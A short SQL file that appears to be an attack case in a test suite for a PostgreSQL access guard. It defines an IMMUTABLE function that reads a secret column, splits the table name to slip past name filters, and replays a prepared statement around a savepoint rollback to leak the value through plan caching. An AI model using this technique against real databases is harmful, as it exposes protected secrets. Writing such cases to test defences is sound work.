-- Goes back to a savepoint and executes a statement again whose plan has the value in it.
-- wants: read
-- attack:
CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$
DECLARE found text; BEGIN EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO found; RETURN found; END
$f$;
PREPARE p AS SELECT peek();
BEGIN;
SAVEPOINT before;
EXECUTE p;
ROLLBACK TO before;
EXECUTE p;
COMMIT;
EXECUTE p;
